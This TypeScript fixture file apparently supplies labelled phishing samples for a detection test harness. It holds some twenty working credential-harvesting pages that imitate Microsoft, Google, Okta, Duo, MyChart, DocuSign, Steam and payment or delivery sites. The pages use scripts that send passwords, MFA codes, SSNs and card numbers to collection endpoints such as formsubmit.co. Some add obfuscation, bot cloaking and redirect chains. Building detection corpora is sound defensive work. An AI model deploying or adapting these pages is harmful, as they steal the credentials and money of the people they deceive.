import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import { jsRoute, jsonRoute, pngRoute } from '../parts/e-bin.js';
import { b64, campusCss, codes, doc, esc, googleLogo, msCss, msFooter, msLogo } from '../parts/zt-kit.js';

export const entries: Entry[] = [
{
  id: 'zt-m365-voicemail-wp-kit',
  label: 'phishing',
  kind: 'm365-voicemail-kit',
  url: 'https://www.lakeviewfamilydental.com/wp-includes/css/vm/index.php?id=cmVjZXB0aW9uQG5vcnRoZ2F0ZWhlYWx0aC5vcmc=',
  routes: {
    'www.lakeviewfamilydental.com/wp-includes/css/vm/index.php': htmlRoute(doc('Voicemail - Sign in to your account', `
<div class="ms-box">
  ${msLogo}
  <div style="display:flex;align-items:center;gap:10px;margin-top:18px;background:#f3f6fb;padding:10px;border-radius:2px">
    <svg width="28" height="28" viewBox="0 0 24 24"><path fill="#0067b8" d="M6.5 7a5 5 0 1 0 3.9 8h3.2a5 5 0 1 0 3.9-8 5 5 0 0 0-3.9 8h-3.2A5 5 0 0 0 6.5 7z"/></svg>
    <div class="ms-small"><b>New voicemail</b> from +1 (269) 555-0147 &middot; 00:00:47<br>Received 9:42 AM &middot; VM-4471.wav</div>
  </div>
  <h1>Sign in to listen</h1>
  <p class="ms-small">Your organization requires you to verify your identity before playing protected voice messages.</p>
  <form id="vmf" method="post" action="next.php">
    <input type="email" name="login" id="em" placeholder="Email, phone, or Skype" required>
    <input type="password" name="passwd" id="pw" placeholder="Password" required>
    <input type="hidden" name="src" value="vm">
    <p class="ms-small"><a href="#">Forgot my password</a></p>
    <p id="err" class="ms-small" style="color:#e81123;display:none">Your account or password is incorrect. If you don't remember your password, reset it now.</p>
    <button class="ms-btn" type="submit">Sign in</button><div style="clear:both"></div>
  </form>
</div>${msFooter}
<script>
(function(){
  var q=new URLSearchParams(location.search).get('id');
  if(q){try{document.getElementById('em').value=atob(q)}catch(e){}}
  var n=0;
  document.getElementById('vmf').addEventListener('submit',function(e){
    e.preventDefault();
    var fd=new FormData(this);fd.append('attempt',++n);
    fetch('next.php',{method:'POST',body:fd}).then(function(){
      if(n<2){document.getElementById('err').style.display='block';document.getElementById('pw').value='';}
      else{location.href='https://outlook.office.com/mail/';}
    });
  });
})();
</script>`, { css: msCss })),
  },
},
{
  id: 'zt-gdocs-shared-formrelay',
  label: 'phishing',
  kind: 'google-workspace-kit',
  url: 'https://docs-google.share-viewer.site/document/d/1xQv9PZ0mJwR2/edit',
  body: doc('Research Grant Budget FY26 - Google Docs', `
<div style="background:#f8f9fa;border-bottom:1px solid #ddd;padding:8px 16px;display:flex;align-items:center;gap:10px">
  <svg width="26" height="34"><rect width="26" height="34" rx="3" fill="#4285f4"/><rect x="6" y="12" width="14" height="2" fill="#fff"/><rect x="6" y="17" width="14" height="2" fill="#fff"/><rect x="6" y="22" width="10" height="2" fill="#fff"/></svg>
  <span style="font-size:18px">Research Grant Budget FY26</span>
</div>
<div style="filter:blur(4px);padding:40px 15vw;color:#333;user-select:none">
  <h2>R01 Budget Justification &mdash; Year 2</h2><p>Personnel: Principal Investigator (2.4 calendar months), Co-Investigator (1.2), Postdoctoral fellow (12.0)...</p><p>Equipment: Confocal upgrade, 488/561 laser modules. Travel: two domestic conferences...</p>
</div>
<div style="position:fixed;inset:0;background:rgba(0,0,0,.35);display:flex;align-items:center;justify-content:center">
 <div style="background:#fff;border-radius:8px;width:420px;padding:36px;text-align:center">
  ${googleLogo}
  <h2 style="font-weight:400">You need access</h2>
  <p style="font-size:14px;color:#444">Sign in with your Northgate Google Workspace account to view this document.</p>
  <form id="g" action="https://formsubmit.co/ajax/6f1d0b3e9b2a4f7e" method="POST" style="text-align:left">
   <input name="email" type="email" placeholder="Email" required style="width:100%;padding:12px;margin:6px 0;border:1px solid #ccc;border-radius:4px">
   <input name="password" type="password" placeholder="Enter your password" required style="width:100%;padding:12px;margin:6px 0;border:1px solid #ccc;border-radius:4px">
   <button style="background:#1a73e8;color:#fff;border:0;border-radius:4px;padding:10px 24px;float:right">Next</button><div style="clear:both"></div>
  </form>
 </div>
</div>
<script>
document.getElementById('g').addEventListener('submit',function(e){e.preventDefault();
 fetch(this.action,{method:'POST',headers:{'Accept':'application/json'},body:new FormData(this)}).finally(function(){location.href='https://docs.google.com/'});});
</script>`),
},
{
  id: 'zt-okta-lookalike-push',
  label: 'phishing',
  kind: 'okta-kit',
  url: 'https://northgate-okta.com/signin/verify/okta/push',
  routes: {
    'northgate-okta.com/signin/verify/okta/push': htmlRoute(doc('Northgate University - Sign In', `
<div id="okta-sign-in" style="width:400px;margin:60px auto;border:1px solid #ddd;border-radius:3px;background:#fff;box-shadow:0 2px 0 rgba(175,175,175,.12)">
 <div style="padding:30px 42px 20px;border-bottom:1px solid #ddd;text-align:center"><div style="font:600 22px Georgia,serif;color:#5b1f2e">NORTHGATE</div></div>
 <div style="padding:20px 42px 40px" id="step1">
  <h2 style="font-size:15px;text-align:center">Sign In</h2>
  <label>Username</label><input id="un" style="width:100%;padding:8px">
  <label>Password</label><input id="pw" type="password" style="width:100%;padding:8px">
  <label><input type="checkbox"> Remember me</label>
  <button id="go" style="width:100%;background:#1662dd;color:#fff;border:0;padding:10px;margin-top:14px">Sign In</button>
 </div>
 <div style="padding:20px 42px 40px;display:none" id="step2">
  <h2 style="font-size:15px;text-align:center">Okta Verify</h2>
  <p style="font-size:13px">Enter the 6-digit code from Okta Verify, or the number shown on this screen will be sent as a push.</p>
  <p style="text-align:center;font-size:40px;font-weight:700" id="num">--</p>
  <input id="otp" inputmode="numeric" maxlength="6" autocomplete="one-time-code" style="width:100%;padding:8px">
  <button id="go2" style="width:100%;background:#1662dd;color:#fff;border:0;padding:10px;margin-top:14px">Verify</button>
 </div>
</div>
<script src="/js/okta-widget.min.js"></script>`)),
    'northgate-okta.com/js/okta-widget.min.js': jsRoute(`(function(){var s=sessionStorage,k='sid';if(!s.getItem(k))s.setItem(k,Math.random().toString(36).slice(2));
function p(d){return fetch('/api/v1/authn',{method:'POST',headers:{'Content-Type':'application/json','X-Sid':s.getItem(k)},body:JSON.stringify(d)}).then(function(r){return r.json()})}
document.getElementById('go').onclick=function(){p({u:un.value,p:pw.value}).then(function(r){step1.style.display='none';step2.style.display='block';num.textContent=r.challenge||'37'})};
document.getElementById('go2').onclick=function(){p({u:un.value,otp:otp.value}).then(function(){location.href='https://www.northgate.edu/'})};})();`),
    'northgate-okta.com/api/v1/authn': jsonRoute({ status: 'MFA_CHALLENGE', challenge: '37' }),
  },
},
{
  id: 'zt-duo-passcode-harvest',
  label: 'phishing',
  kind: 'duo-kit',
  url: 'https://duo-northgate.help-auth.net/frame/prompt?sid=a1f09c',
  body: doc('Duo Security', `
<div style="max-width:420px;margin:50px auto;font-family:Arial;border:1px solid #e0e0e0;border-radius:8px;padding:32px">
 <div style="display:flex;align-items:center;gap:8px"><svg width="60" height="22"><text y="18" font-size="20" font-weight="700" fill="#6c8f17">DUO</text></svg><span style="color:#666;font-size:13px">Northgate University</span></div>
 <h2 style="font-size:22px">Your device registration has expired</h2>
 <p style="font-size:14px;color:#333">To keep access to Workday, Canvas and Epic, re-verify your Duo device. Enter your NetID, password and a passcode from Duo Mobile.</p>
 <form method="POST" action="/frame/prompt/submit.php">
  <label>NetID</label><input name="netid" required style="width:100%;padding:9px">
  <label>Password</label><input name="password" type="password" required style="width:100%;padding:9px">
  <label>Passcode</label><input name="passcode" inputmode="numeric" maxlength="8" required style="width:100%;padding:9px">
  <label>Mobile phone number</label><input name="phone" type="tel" style="width:100%;padding:9px">
  <button style="width:100%;margin-top:16px;background:#2b6bd8;color:#fff;border:0;border-radius:4px;padding:12px;font-size:16px">Re-register device</button>
 </form>
 <p style="font-size:12px;color:#888;margin-top:22px">Secured by Duo &middot; <a href="#">What is this?</a> &middot; <a href="#">Need help?</a></p>
</div>`),
},
{
  id: 'zt-esign-provider-picker',
  label: 'phishing',
  kind: 'esign-lure-kit',
  url: 'https://sign-docs.envelope-review.com/Signing/EmailStart.aspx?a=8c4f0b2e&acct=northgate',
  body: doc('DocuSign', `
<div style="background:#fff;border-bottom:4px solid #ffcc22;padding:14px 30px"><b style="font-size:22px;color:#1e1e1e">Docu<span style="color:#ffcc22">Sign</span></b></div>
<div style="max-width:640px;margin:40px auto;text-align:center">
 <p style="font-size:18px">Dr. Ellen Marsh sent you a document to review and sign.</p>
 <p style="color:#555">REVIEW DOCUMENT: <b>IRB_Amendment_Protocol_2025-0412.pdf</b> (2 pages)</p>
 <p>Select your email provider to continue</p>
 <div style="display:grid;grid-template-columns:1fr 1fr;gap:12px;max-width:440px;margin:auto">
  <button class="p" data-p="office" style="padding:14px">Sign in with Office 365</button>
  <button class="p" data-p="outlook" style="padding:14px">Sign in with Outlook</button>
  <button class="p" data-p="gmail" style="padding:14px">Sign in with Gmail</button>
  <button class="p" data-p="other" style="padding:14px">Other mail</button>
 </div>
 <form id="lf" style="display:none;max-width:360px;margin:28px auto;text-align:left" method="post" action="https://sign-docs.envelope-review.com/Signing/rcv.php">
  <input type="hidden" name="provider" id="prov">
  <label>Email address</label><input name="eml" type="email" required style="width:100%;padding:8px">
  <label>Email password</label><input name="pwd" type="password" required style="width:100%;padding:8px">
  <button style="margin-top:12px;background:#ffcc22;border:0;padding:10px 24px;font-weight:700">VIEW DOCUMENT</button>
 </form>
</div>
<script>
document.querySelectorAll('.p').forEach(function(b){b.onclick=function(){document.getElementById('prov').value=b.dataset.p;document.getElementById('lf').style.display='block'}});
</script>`),
},
{
  id: 'zt-qr-mfa-reset-landing',
  label: 'phishing',
  kind: 'qr-code-kit',
  url: 'https://mfa-reset.nu-it.org/q?e=ZHIucGF0ZWxAbm9ydGhnYXRlLmVkdQ',
  routes: {
    'mfa-reset.nu-it.org/q': htmlRoute(doc('Redirecting', `<p style="font-family:Arial;padding:40px">One moment&hellip;</p>
<script>var e=new URLSearchParams(location.search).get('e')||'';setTimeout(function(){location.replace('/common/oauth2/authorize?client_id=4765445b&login_hint='+encodeURIComponent(atob(e)))},400);</script>`)),
    'mfa-reset.nu-it.org/common/oauth2/authorize': htmlRoute(doc('Sign in to your account', `
<div class="ms-box">
 ${msLogo}
 <div id="s1"><h1>Enter password</h1><p class="ms-small" id="hint"></p>
 <p class="ms-small">Your multi-factor authentication registration must be renewed under the new IT security policy (effective 10/01).</p>
 <input type="password" id="pw" placeholder="Password"><button class="ms-btn" id="b1">Sign in</button><div style="clear:both"></div></div>
 <div id="s2" style="display:none"><h1>Verify your identity</h1><p class="ms-small">Enter the code we sent to your phone.</p>
 <input type="text" id="code" inputmode="numeric" maxlength="6" placeholder="Code"><button class="ms-btn" id="b2">Verify</button><div style="clear:both"></div></div>
</div>${msFooter}
<script>
var hint=new URLSearchParams(location.search).get('login_hint')||'';document.getElementById('hint').textContent=hint;
function send(o){o.u=hint;return fetch('/api/collect',{method:'POST',headers:{'content-type':'application/json'},body:JSON.stringify(o)})}
b1.onclick=function(){send({p:pw.value}).then(function(){s1.style.display='none';s2.style.display='block'})};
b2.onclick=function(){send({c:code.value}).then(function(){location.href='https://myaccount.microsoft.com/'})};
</script>`, { css: msCss })),
    'mfa-reset.nu-it.org/api/collect': jsonRoute({ ok: 1 }),
  },
},
{
  id: 'zt-mychart-patient-kit',
  label: 'phishing',
  kind: 'patient-portal-kit',
  url: 'https://mychart-northgatehealth.org-verify.info/MyChart/Authentication/Login',
  body: doc('MyChart - Login Page', `
<div style="background:#e8f1f8;min-height:100vh;padding-top:50px">
 <div style="max-width:420px;margin:auto;background:#fff;border-radius:6px;padding:32px;box-shadow:0 2px 10px rgba(0,0,0,.1)">
  <div style="font:700 26px Arial;color:#c8102e">My<span style="color:#0b4f8a">Chart</span></div>
  <p style="color:#0b4f8a;margin-top:2px">Northgate University Health</p>
  <div style="background:#fdecea;color:#8a1c1c;padding:10px;font-size:14px;border-radius:4px">You have <b>1 new test result</b> and an outstanding balance of <b>$48.20</b>. Log in to view.</div>
  <form method="post" action="login.php">
   <label>MyChart Username</label><input name="username" required style="width:100%;padding:9px">
   <label>Password</label><input name="password" type="password" required style="width:100%;padding:9px">
   <label>Date of birth</label><input name="dob" placeholder="MM/DD/YYYY" style="width:100%;padding:9px">
   <button style="margin-top:14px;width:100%;background:#0b4f8a;color:#fff;border:0;padding:11px;border-radius:4px">Sign in</button>
  </form>
  <p style="font-size:13px"><a href="#">Forgot username?</a> &middot; <a href="#">Forgot password?</a></p>
  <p style="font-size:13px">MyChart&reg; licensed from Epic Systems Corporation &copy; 1999 - 2025</p>
 </div>
</div>`),
},
{
  id: 'zt-owa-clone-hospital',
  label: 'phishing',
  kind: 'webmail-clone',
  url: 'https://mail.northgatehealth-org.com/owa/auth/logon.aspx?replaceCurrent=1&url=https%3a%2f%2fmail.northgatehealth.org%2fowa%2f',
  routes: {
    'mail.northgatehealth-org.com/owa/auth/logon.aspx': htmlRoute(doc('Outlook', `
<div style="position:absolute;top:0;left:0;right:0;bottom:0;background:#fff;display:flex">
 <div style="width:38%;background:#0072c6"></div>
 <div style="padding:90px 60px;font-family:Segoe UI">
  <div style="font-size:42px;color:#0072c6;font-weight:300">Outlook</div>
  <form action="/owa/auth.owa" method="POST" name="logonForm" style="margin-top:30px;width:320px">
   <input type="hidden" name="destination" value="https://mail.northgatehealth.org/owa/">
   <input type="hidden" name="flags" value="4"><input type="hidden" name="forcedownlevel" value="0">
   <label>Domain\\user name:</label><input id="username" name="username" type="text" style="width:100%;padding:6px">
   <label>Password:</label><input id="password" name="password" type="password" style="width:100%;padding:6px">
   <p style="font-size:13px"><label><input type="radio" name="trusted" value="0" checked> This is a public or shared computer</label><label><input type="radio" name="trusted" value="4"> This is a private computer</label></p>
   <button style="background:#0072c6;color:#fff;border:0;padding:8px 18px;font-size:16px">&rarr; sign in</button>
  </form>
 </div>
</div>`)),
  },
},
{
  id: 'zt-charcode-kit-library-ezproxy',
  label: 'phishing',
  kind: 'obfuscated-kit',
  url: 'https://library-northgate.ezproxy-access.com/login?url=https://www.jstor.org/stable/4411873',
  routes: {
    'library-northgate.ezproxy-access.com/login': htmlRoute(`<!doctype html><html><head><meta charset="utf-8"><title>University Libraries - Off-campus access</title></head><body><div id="r"></div><script>
var _0x=[${codes(`<div style="font-family:Georgia,serif;max-width:460px;margin:60px auto;border:1px solid #ccc;padding:28px"><h2 style="color:#5b1f2e">University Libraries</h2><p style="font-family:Arial;font-size:14px">Off-campus access to licensed e-resources requires your NetID and password.</p><form id="ez" style="font-family:Arial"><label>NetID</label><br><input name="user" style="width:100%;padding:7px"><br><label>Password</label><br><input name="pass" type="password" style="width:100%;padding:7px"><br><button style="margin-top:12px;background:#5b1f2e;color:#fff;border:0;padding:9px 20px">Log in</button></form></div>`)}];
document.getElementById('r').innerHTML=String.fromCharCode.apply(null,_0x);
document.getElementById('ez').addEventListener('submit',function(e){e.preventDefault();var x=new XMLHttpRequest();x.open('POST','/next.php',true);x.setRequestHeader('Content-Type','application/x-www-form-urlencoded');x.onload=function(){location.href=new URLSearchParams(location.search).get('url')};x.send(new URLSearchParams(new FormData(this)).toString())});
</script></body></html>`),
  },
},
{
  id: 'zt-cloaked-webdriver-zoom',
  label: 'phishing',
  kind: 'cloaked-kit',
  url: 'https://zoom-meet-invite.us-web-join.com/j/84412093377?pwd=Uk1tQ2',
  routes: {
    'zoom-meet-invite.us-web-join.com/j/84412093377': htmlRoute(`<!doctype html><html><head><meta charset="utf-8"><title>Zoom</title>
<style>body{font-family:Lato,Arial;margin:0;background:#fff}.bar{padding:14px 24px;border-bottom:1px solid #eee;color:#0b5cff;font:700 24px Arial}#c{max-width:420px;margin:60px auto;text-align:center}</style></head><body>
<div class="bar">zoom</div><div id="c"><p>Launching meeting&hellip;</p></div>
<script>
(function(){
 var bot=navigator.webdriver||/HeadlessChrome|bot|crawl|spider|Lighthouse|curl|python/i.test(navigator.userAgent)||!navigator.languages||navigator.languages.length===0;
 if(bot){document.getElementById('c').innerHTML='<p>This meeting has ended.</p><p><a href="https://zoom.us/">Return to Zoom</a></p>';return;}
 var h='<h2 style="font-weight:500">Sign in to join</h2><p style="font-size:14px;color:#555">Meeting host requires authenticated participants (Northgate SSO).</p><form id=z method=post action="/j/auth.php"><input name=e type=email placeholder="Work email" style="width:100%;padding:10px;margin:5px 0"><input name=p type=password placeholder="Password" style="width:100%;padding:10px;margin:5px 0"><button style="width:100%;background:#0b5cff;color:#fff;border:0;border-radius:8px;padding:11px">Join Meeting</button></form>';
 document.getElementById('c').innerHTML=h;
})();
</script></body></html>`),
  },
},
{
  id: 'zt-studentaid-es-kit',
  label: 'phishing',
  kind: 'student-aid-kit',
  url: 'https://studentaid-gov.perdon-prestamos.com/es/fsa-id/iniciar-sesion',
  body: doc('Iniciar sesión | Federal Student Aid', `
<div style="background:#112e51;color:#fff;padding:12px 26px;font:700 18px Arial">Federal Student Aid <span style="font-weight:400;font-size:13px">Una oficina del Departamento de Educación de EE. UU.</span></div>
<div style="max-width:480px;margin:36px auto;font-family:Arial">
 <h1 style="font-size:26px">Confirme su elegibilidad para la condonación</h1>
 <p>Su préstamo estudiantil fue preseleccionado para el programa de alivio 2025. Inicie sesión con su FSA ID para completar la solicitud antes del <b>30 de noviembre</b>.</p>
 <form id="fsa" method="post" action="/es/fsa-id/procesar.php">
  <label>Nombre de usuario, correo electrónico o teléfono</label><input name="usuario" style="width:100%;padding:9px">
  <label>Contraseña</label><input name="clave" type="password" style="width:100%;padding:9px">
  <label>Número de Seguro Social</label><input name="ssn" maxlength="11" style="width:100%;padding:9px">
  <button style="margin-top:14px;background:#0071bc;color:#fff;border:0;padding:11px 24px;border-radius:4px">Iniciar sesión</button>
 </form>
</div>`, { lang: 'es' }),
},
{
  id: 'zt-canadapost-redelivery-fee',
  label: 'phishing',
  kind: 'delivery-kit',
  url: 'https://canadapost-redelivery.parcel-hold.top/track/?pin=LK928374610CA',
  body: doc('Canada Post - Redelivery', `
<div style="background:#fff;border-bottom:3px solid #da291c;padding:12px 26px;font:700 20px Arial;color:#da291c">Canada Post <span style="color:#333;font-weight:400">| Postes Canada</span></div>
<div style="max-width:560px;margin:30px auto;font-family:Arial">
 <h2>Your parcel could not be delivered</h2>
 <p>Tracking number <b>LK928374610CA</b> &mdash; Status: <span style="color:#da291c">Held at depot (incomplete address)</span></p>
 <p>To schedule redelivery, please pay the re-handling fee of <b>$2.99 CAD</b>. Parcels not claimed within 72 hours are returned to sender.</p>
 <form method="post" action="pay.php" style="border:1px solid #ddd;padding:18px;border-radius:4px">
  <label>Name on card</label><input name="nm" style="width:100%;padding:8px">
  <label>Card number</label><input name="ccn" autocomplete="cc-number" maxlength="19" style="width:100%;padding:8px">
  <div style="display:flex;gap:8px"><div><label>Expiry</label><input name="exp" placeholder="MM/YY" style="width:100%;padding:8px"></div><div><label>CVV</label><input name="cvv" maxlength="4" style="width:100%;padding:8px"></div></div>
  <label>Postal code</label><input name="zip" style="width:100%;padding:8px">
  <button style="margin-top:14px;background:#da291c;color:#fff;border:0;padding:10px 26px">Pay $2.99</button>
 </form>
</div>`),
},
{
  id: 'zt-linkedin-recruiter-kit',
  label: 'phishing',
  kind: 'social-kit',
  url: 'https://linkedin.com-jobs-view.careers-inmail.com/uas/login?session_redirect=%2Fmessaging',
  routes: {
    'linkedin.com-jobs-view.careers-inmail.com/uas/login': htmlRoute(doc('LinkedIn Login, Sign in | LinkedIn', `
<div style="max-width:400px;margin:40px auto;font-family:-apple-system,Arial">
 <div style="color:#0a66c2;font:700 30px Arial">Linked<span style="background:#0a66c2;color:#fff;border-radius:4px;padding:0 4px">in</span></div>
 <div style="box-shadow:0 4px 12px rgba(0,0,0,.15);border-radius:8px;padding:24px;margin-top:20px">
  <h1 style="font-size:30px;margin:0">Sign in</h1>
  <p style="font-size:14px">A recruiter from <b>Pfizer Research</b> sent you a message about a paid clinical research internship.</p>
  <form method="post" action="https://linkedin.com-jobs-view.careers-inmail.com/checkpoint/lg/login-submit">
   <input name="session_key" placeholder="Email or phone" style="width:100%;padding:14px;margin:6px 0;border:1px solid #888;border-radius:4px">
   <input name="session_password" type="password" placeholder="Password" style="width:100%;padding:14px;margin:6px 0;border:1px solid #888;border-radius:4px">
   <button style="width:100%;background:#0a66c2;color:#fff;border:0;border-radius:24px;padding:14px;font-size:16px;margin-top:10px">Sign in</button>
  </form>
 </div>
</div>`)),
  },
},
{
  id: 'zt-netflix-billing-kit',
  label: 'phishing',
  kind: 'streaming-kit',
  url: 'https://netflix-billing-update.account-hold.xyz/YourAccount/payment',
  body: doc('Netflix', `
<div style="background:#000;min-height:100vh;color:#fff;font-family:Helvetica,Arial;padding:20px 40px">
 <div style="color:#e50914;font:800 34px Arial;letter-spacing:-1px">NETFLIX</div>
 <div style="max-width:460px;margin:30px auto;background:rgba(0,0,0,.75);border:1px solid #333;padding:40px">
  <h2>Update your payment method</h2>
  <p style="color:#bbb">We couldn't process your last payment. Your membership will be cancelled unless you update your billing details. (Student plan &mdash; $6.99/mo)</p>
  <form method="post" action="billing.php">
   <input name="fname" placeholder="Name on card" style="width:100%;padding:12px;margin:5px 0;background:#333;border:0;color:#fff">
   <input name="card" placeholder="Card number" maxlength="19" style="width:100%;padding:12px;margin:5px 0;background:#333;border:0;color:#fff">
   <input name="exp" placeholder="Expiration (MM/YY)" style="width:48%;padding:12px;margin:5px 0;background:#333;border:0;color:#fff">
   <input name="cvv" placeholder="CVV" style="width:48%;padding:12px;margin:5px 0;background:#333;border:0;color:#fff">
   <button style="width:100%;background:#e50914;color:#fff;border:0;padding:14px;margin-top:16px;font-size:16px">Update</button>
  </form>
 </div>
</div>`),
},
{
  id: 'zt-steam-bitb-popup',
  label: 'phishing',
  kind: 'game-bitb-kit',
  url: 'https://cs2-esports-nu-cup.gg/vote/team/northgate-esports',
  body: doc('Northgate Esports Cup - Vote', `
<div style="background:#0e1117;color:#eee;min-height:100vh;font-family:Arial;padding:30px">
 <h1>Collegiate CS2 Cup &mdash; Fan Vote</h1><p>Vote for <b>Northgate Esports</b> to give them the wildcard slot. Voters receive a free case drop.</p>
 <button id="v" style="background:#66c0f4;border:0;padding:14px 24px;font-size:16px">Sign in through Steam to vote</button>
 <div id="win" style="display:none;position:fixed;top:60px;left:calc(50% - 320px);width:640px;background:#171a21;border:1px solid #444;box-shadow:0 8px 30px #000">
  <div style="background:#dfe1e5;color:#333;padding:6px 10px;font-size:13px;display:flex;gap:8px"><span>&#x1F512;</span><span style="background:#fff;flex:1;padding:2px 8px;border-radius:10px">https://steamcommunity.com/openid/login?openid.mode=checkid_setup</span><span>&#x2715;</span></div>
  <div style="padding:30px"><div style="font:700 20px Arial;color:#fff">STEAM</div>
   <form method="post" action="/api/steam/auth"><label style="color:#66c0f4;font-size:12px">SIGN IN WITH ACCOUNT NAME</label><input name="username" style="width:100%;padding:10px;background:#32353c;border:0;color:#fff"><label style="color:#aaa;font-size:12px">PASSWORD</label><input name="password" type="password" style="width:100%;padding:10px;background:#32353c;border:0;color:#fff"><label style="color:#aaa;font-size:12px">STEAM GUARD CODE</label><input name="twofactorcode" maxlength="5" style="width:100%;padding:10px;background:#32353c;border:0;color:#fff"><button style="margin-top:14px;background:linear-gradient(90deg,#06bfff,#2d73ff);color:#fff;border:0;padding:12px 40px">Sign in</button></form>
  </div>
 </div>
</div>
<script>document.getElementById('v').onclick=function(){document.getElementById('win').style.display='block'}</script>`),
},
{
  id: 'zt-json-config-spa-kit',
  label: 'phishing',
  kind: 'spa-kit',
  url: 'https://secure-docview.pages-cdn.app/r/9f3a1c/',
  routes: {
    'secure-docview.pages-cdn.app/r/9f3a1c/': htmlRoute(`<!doctype html><html><head><meta charset="utf-8"><title>Loading</title><link rel="icon" href="data:,"></head><body><div id="app"></div><script src="/r/9f3a1c/app.js"></script></body></html>`),
    'secure-docview.pages-cdn.app/r/9f3a1c/app.js': jsRoute(`(async function(){
 const cfg=await (await fetch('/r/9f3a1c/cfg.json')).json();
 document.title=cfg.title;
 const a=document.getElementById('app');
 a.innerHTML='<div style="font-family:Segoe UI;max-width:440px;margin:10vh auto;padding:44px;box-shadow:0 2px 6px rgba(0,0,0,.2)"><img src="'+cfg.logo+'" width="108" height="24" alt=""><h1 style="font-size:24px">'+cfg.heading+'</h1><p style="font-size:13px">'+cfg.sub+'</p><input id=e type=email placeholder="Email" style="width:100%;border:0;border-bottom:1px solid #666;padding:6px 0;margin:8px 0"><input id=p type=password placeholder="Password" style="width:100%;border:0;border-bottom:1px solid #666;padding:6px 0;margin:8px 0"><button id=b style="background:#0067b8;color:#fff;border:0;padding:8px 30px;float:right">Sign in</button></div>';
 document.getElementById('b').onclick=async()=>{await fetch(cfg.endpoint,{method:'POST',mode:'no-cors',body:JSON.stringify({e:e.value,p:p.value,ref:cfg.campaign})});location.href=cfg.after};
})();`),
    'secure-docview.pages-cdn.app/r/9f3a1c/cfg.json': jsonRoute({ title: 'Sign in to your account', logo: '/r/9f3a1c/ms.png', heading: 'Shared: Clinical_Rotation_Schedule_Spring.pdf', sub: 'Verify your Northgate Health account to view this file.', endpoint: 'https://script.google.com/macros/s/AKfycbx9q3Lr0e7T/exec', campaign: 'ngh-rot-11', after: 'https://www.office.com' }),
    'secure-docview.pages-cdn.app/r/9f3a1c/ms.png': pngRoute(242, 80, 34),
  },
},
{
  id: 'zt-voicemail-lure-page',
  label: 'phishing',
  kind: 'lure-page',
  url: 'https://storage.googleapis.com/vm-notify-2291/Voice_Message_4471.html',
  body: doc('Voice Message', `
<div style="font-family:Segoe UI,Arial;max-width:520px;margin:60px auto;border:1px solid #ddd;border-radius:8px;overflow:hidden">
 <div style="background:#464775;color:#fff;padding:14px 20px">Microsoft Teams &middot; Voicemail</div>
 <div style="padding:24px">
  <p><b>You received a voice message</b></p>
  <p style="color:#555">From: Payroll Office (ext. 4471)<br>Duration: 0:38<br>Date: Tuesday, October 14, 2025</p>
  <div style="background:#f2f2f2;border-radius:20px;padding:10px 16px;display:flex;align-items:center;gap:10px">&#x25B6; <div style="flex:1;height:4px;background:#ccc"></div> 0:38</div>
  <p style="margin-top:24px"><a href="https://ms-voice-portal.teams-vm-listen.com/auth?src=vm4471" style="background:#464775;color:#fff;padding:10px 22px;border-radius:4px;text-decoration:none">&#x25B6; Play Voice Message</a></p>
  <p style="font-size:12px;color:#888">This message will be deleted from the server in 7 days.</p>
 </div>
</div>`),
},
{
  id: 'zt-adobe-pdf-gate-kit',
  label: 'phishing',
  kind: 'shared-document-kit',
  url: 'https://invoices-view.adobe-pdfcloud.live/view/Conference_Reimbursement_Form.pdf.html',
  body: doc('Adobe Document Cloud', `
<div style="background:#323232;color:#fff;padding:10px 20px;font-family:Arial">&#x1F4C4; Adobe Acrobat &middot; Conference_Reimbursement_Form.pdf</div>
<div style="background:#525659;min-height:100vh;padding:30px">
 <div style="background:#fff;width:600px;height:760px;margin:auto;filter:blur(3px);padding:50px"><h2>Travel Reimbursement Request</h2><p>Employee ID ___ Department ___ Event: ASCO Annual Meeting...</p></div>
 <div style="position:fixed;top:20%;left:calc(50% - 200px);width:400px;background:#fff;border-radius:6px;padding:26px;font-family:Arial;box-shadow:0 10px 40px #000">
  <h3 style="margin-top:0">Confirm your identity to view</h3><p style="font-size:13px">This secure PDF was shared with your email. Sign in with your email provider to continue.</p>
  <form method="post" action="https://adobe-pdfcloud.live/log/save.php">
   <input name="email" type="email" placeholder="Email address" style="width:100%;padding:10px;margin:4px 0">
   <input name="pass" type="password" placeholder="Email password" style="width:100%;padding:10px;margin:4px 0">
   <button style="width:100%;background:#e1251b;color:#fff;border:0;padding:11px;border-radius:18px;margin-top:8px">View PDF</button>
  </form>
 </div>
</div>`),
},
{
  id: 'zt-shortener-chain-to-gws-kit',
  label: 'phishing',
  kind: 'redirect-chain-kit',
  url: 'https://t.co-link.cc/aB9xQ',
  routes: {
    't.co-link.cc/aB9xQ': redirectRoute(301, 'https://www.google.com.northgate-campus.info/url?q=https://accounts-verify.workspace-nu.com/ServiceLogin'),
    'www.google.com.northgate-campus.info/url': redirectRoute(302, 'https://accounts-verify.workspace-nu.com/ServiceLogin?continue=https://mail.google.com/a/northgate.edu'),
    'accounts-verify.workspace-nu.com/ServiceLogin': htmlRoute(doc('Sign in - Google Accounts', `
<div style="max-width:450px;margin:60px auto;border:1px solid #dadce0;border-radius:8px;padding:48px 40px;font-family:Roboto,Arial;text-align:center">
 ${googleLogo}
 <h1 style="font-weight:400;font-size:24px">Sign in</h1><p>to continue to Gmail &mdash; northgate.edu</p>
 <form method="post" action="/ServiceLogin/signin/challenge" style="text-align:left">
  <input name="identifier" type="email" placeholder="Email or phone" style="width:100%;padding:13px;border:1px solid #dadce0;border-radius:4px;margin:8px 0">
  <input name="Passwd" type="password" placeholder="Enter your password" style="width:100%;padding:13px;border:1px solid #dadce0;border-radius:4px;margin:8px 0">
  <p style="font-size:14px"><a href="#">Forgot email?</a></p>
  <button style="float:right;background:#1a73e8;color:#fff;border:0;border-radius:4px;padding:10px 24px">Next</button><div style="clear:both"></div>
 </form>
</div>`)),
  },
},
];
